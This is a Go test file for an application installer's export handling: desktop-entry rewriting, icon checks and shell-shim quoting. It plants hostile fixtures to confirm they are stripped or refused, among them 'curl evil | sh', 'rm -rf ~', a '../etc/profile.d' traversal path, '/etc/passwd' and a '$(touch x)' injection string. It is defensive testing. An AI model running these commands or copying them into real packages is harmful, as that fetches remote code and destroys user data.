package install

import (
	"encoding/binary"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/larch-project/larch/internal/keyfile"
	"github.com/larch-project/larch/release"
	"github.com/larch-project/larch/trust"
)

// png is a picture as far as its header goes.
func png(width, height uint32) string {
	head := []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR")
	head = binary.BigEndian.AppendUint32(head, width)
	return string(binary.BigEndian.AppendUint32(head, height)) + "and so on"
}

const entry = `[Desktop Entry]
Type=Application
Name=Hello
Name[de]=Hallo
Exec=sh -c "curl evil | sh" %U
Icon=org.example.Hello
TryExec=/bin/sh
DBusActivatable=true
Actions=new;
Categories=Utility;
OnlyShowIn=GNOME;

[Desktop Action new]
Name=New
Exec=rm -rf ~
`

// laidOut is an application in the layout of a release, with an export folder.
func laidOut(id, command string, export files) files {
	f := files{
		"metadata":             string(release.NewMetadata(id, "host", command)),
		"files/bin/" + command: "#!/bin/sh\necho hi\n",
	}
	for name, text := range export {
		f["export/share/"+name] = text
	}
	return f
}

func TestExports(t *testing.T) {
	const id = "org.example.Hello"
	p := newPublisher(t, trust.InitOptions{})
	p.publish(hello, "1", laidOut(id, "hello", files{
		"applications/org.example.Hello.desktop":                       entry,
		"applications/org.example.Hello.Editor.desktop":                strings.Replace(entry, "%U", "", 1),
		"applications/org.other.App.desktop":                           entry,
		"applications/org.example.Hello2.desktop":                      entry,
		"applications/org.example.Hello.broken.desktop":                "[Desktop Entry]\nType=Application\n[Desktop Entry]\nName=x\nExec=y\n",
		"applications/org.example.Hello.link.desktop":                  "[Desktop Entry]\nType=Link\nName=x\nExec=y\n",
		"icons/hicolor/48x48/apps/org.example.Hello.png":               png(48, 48),
		"icons/hicolor/symbolic/apps/org.example.Hello-symbolic.svg":   `<svg xmlns="http://www.w3.org/2000/svg"/>`,
		"icons/hicolor/scalable/apps/org.example.Hello.svg":            `<!DOCTYPE svg [<!ENTITY a "b">]><svg/>`,
		"icons/hicolor/64x64/apps/org.example.Hello.png":               png(100000, 100000),
		"icons/hicolor/96x96/apps/org.example.Hello.png":               png(96, 96) + strings.Repeat("x", maxIcon),
		"dbus-1/services/org.example.Hello.service":                    "[D-BUS Service]\nName=org.example.Hello\nExec=/bin/sh\n",
		"systemd/user/org.example.Hello.service":                       "[Service]\nExecStart=/bin/sh\n",
		"../etc/profile.d/org.example.Hello.sh":                        "rm -rf ~",
		"icons/hicolor/../../applications/org.example.Hello.x.desktop": entry,
	}))
	m := newMachine(t)
	m.trust("example", p)
	result := m.install("hello")
	g := must[*Generation](t)(m.Current())
	var names []string
	for _, e := range g.Installed[0].Exports {
		names = append(names, e.Name)
	}
	want := []string{
		"bin/org.example.Hello",
		"share/applications/org.example.Hello.Editor.desktop",
		"share/applications/org.example.Hello.desktop",
		"share/applications/org.example.Hello.x.desktop",
		"share/icons/hicolor/48x48/apps/org.example.Hello.png",
		"share/icons/hicolor/symbolic/apps/org.example.Hello-symbolic.svg",
	}
	if diff := cmp.Diff(want, names); diff != "" {
		t.Errorf("exports (-want +have):\n%s", diff)
	}
	if len(result.Warnings) != 10 {
		t.Errorf("%d warnings: %v", len(result.Warnings), result.Warnings)
	}
	m.expectExports(g)
	desktop := m.exported("share/applications/org.example.Hello.desktop")
	wantDesktop := `[Desktop Entry]
Type=Application
Name=Hello
Name[de]=Hallo
Icon=org.example.Hello
Categories=Utility;
Exec=larch run --root "` + m.dir + `" app/org.example.Hello/` + arch + `/stable -- %U
`
	if diff := cmp.Diff(wantDesktop, desktop); diff != "" {
		t.Errorf("desktop entry (-want +have):\n%s", diff)
	}
}

func TestRewriteDesktop(t *testing.T) {
	ref := must[release.Ref](t)(release.ParseRef(hello))
	head := "[Desktop Entry]\nType=Application\nName=N\nExec=e %f\n"
	for _, c := range []struct{ name, text, refused string }{
		{"good", head, ""},
		{"foreign icon", head + "Icon=/etc/passwd\n", ""},
		{"newline in a value", head + `Comment=a\nExec=rm` + "\n", ""},
		{"unknown escape", head + `Comment=\x` + "\n", ""},
		{"second group", head + "[Desktop Entry]\nExec=x\n", "twice"},
		{"second key", head + "Exec=x\n", "twice"},
		{"no name", "[Desktop Entry]\nType=Application\nExec=x\n", "no Name"},
		{"no exec", "[Desktop Entry]\nType=Application\nName=x\n", "no Exec"},
		{"name that cannot be shown", "[Desktop Entry]\nType=Application\nName=a\\nb\nExec=x\n", "cannot be shown"},
		{"other type", "[Desktop Entry]\nType=Directory\nName=x\nExec=x\n", "Type"},
		{"other group", "[Other]\nType=Application\nName=x\nExec=x\n", "Type"},
		{"nothing", "", "Type"},
		{"bytes", "\xff\xfe", "UTF-8"},
	} {
		t.Run(c.name, func(t *testing.T) {
			made, err := rewriteDesktop([]byte(c.text), "/root", ref)
			var refused refusal
			switch {
			case c.refused != "":
				if !errors.As(err, &refused) || !strings.Contains(err.Error(), c.refused) {
					t.Errorf("%q, %v; want a refusal with %q", made, err, c.refused)
				}
			case err != nil:
				t.Error(err)
			default:
				want := head[:len(head)-len("Exec=e %f\n")] + `Exec=larch run --root "/root" ` + hello + " -- %f\n"
				if diff := cmp.Diff(want, string(made)); diff != "" {
					t.Errorf("-want +have:\n%s", diff)
				}
			}
		})
	}
}

func FuzzRewriteDesktop(f *testing.F) {
	f.Add([]byte(entry))
	ref, err := release.ParseRef(hello)
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		made, err := rewriteDesktop(data, "/root", ref)
		if err != nil {
			return
		}
		parsed, err := keyfile.Parse(made)
		if err != nil || len(parsed.Groups()) != 1 {
			t.Fatalf("%q: %v", made, err)
		}
		group := parsed.Group(desktopGroup)
		exec, err := group.String("Exec")
		if err != nil || !strings.HasPrefix(exec, `larch run --root "/root" `+hello+" --") {
			t.Errorf("exec %q, %v", exec, err)
		}
		if icon, _ := group.String("Icon"); icon != "" && !underID(icon, ref.ID) {
			t.Errorf("icon %q", icon)
		}
	})
}

func TestUnderID(t *testing.T) {
	const id = "org.a.App"
	for name, want := range map[string]bool{
		id: true, id + ".x": true, id + "-symbolic": true, id + ".x-symbolic": true,
		"org.a.App2": false, "org.b.App": false, "": false, "org.a": false, id + "-evil": false,
		id + ".": false, id + ".a/b": false, id + "..b": false, id + ".\n": false, "x" + id: false, "ORG.A.APP": false,
	} {
		if underID(name, id) != want {
			t.Errorf("%q: %v", name, !want)
		}
	}
}

func TestShimQuotesItsArguments(t *testing.T) {
	ref := must[release.Ref](t)(release.ParseRef(hello))
	dir := t.TempDir()
	larch := "#!/bin/sh\nfor a; do echo \"<$a>\"; done\n"
	if err := os.WriteFile(filepath.Join(dir, "larch"), []byte(larch), 0o755); err != nil {
		t.Fatal(err)
	}
	root := "/it's \"a\" $(touch x) `y`\\"
	cmd := exec.Command("sh", "-s", "one", "two words")
	cmd.Stdin = strings.NewReader(string(shim(root, ref)))
	cmd.Env = []string{"PATH=" + dir + ":/bin:/usr/bin"}
	out, err := cmd.CombinedOutput()
	want := "<run>\n<--root>\n<" + root + ">\n<" + hello + ">\n<-->\n<one>\n<two words>\n"
	if err != nil || string(out) != want {
		t.Errorf("%v: %s\nwant: %s", err, out, want)
	}
}

func TestTwoRefsThatExportOneName(t *testing.T) {
	beta := "app/org.example.Hello/" + arch + "/beta"
	p := newPublisher(t, trust.InitOptions{})
	p.publish(hello, "1", program("1"))
	p.publish(beta, "2", program("2"))
	m := newMachine(t)
	m.trust("example", p)
	m.install(hello)
	result := m.install(beta)
	if len(result.Warnings) != 1 || result.Warnings[0].Ref.String() != beta {
		t.Errorf("warnings: %v", result.Warnings)
	}
	expectShim := func(ref string) {
		t.Helper()
		if shim := m.exported("bin/org.example.Hello"); !strings.Contains(shim, "'"+ref+"'") {
			t.Errorf("the command runs %q, want %s", shim, ref)
		}
	}
	expectShim(hello)
	p.publish(hello, "1.1", program("1.1"))
	m.update()
	expectShim(hello)
	m.uninstall(hello)
	expectShim(beta)
	m.undo()
	expectShim(hello)
}
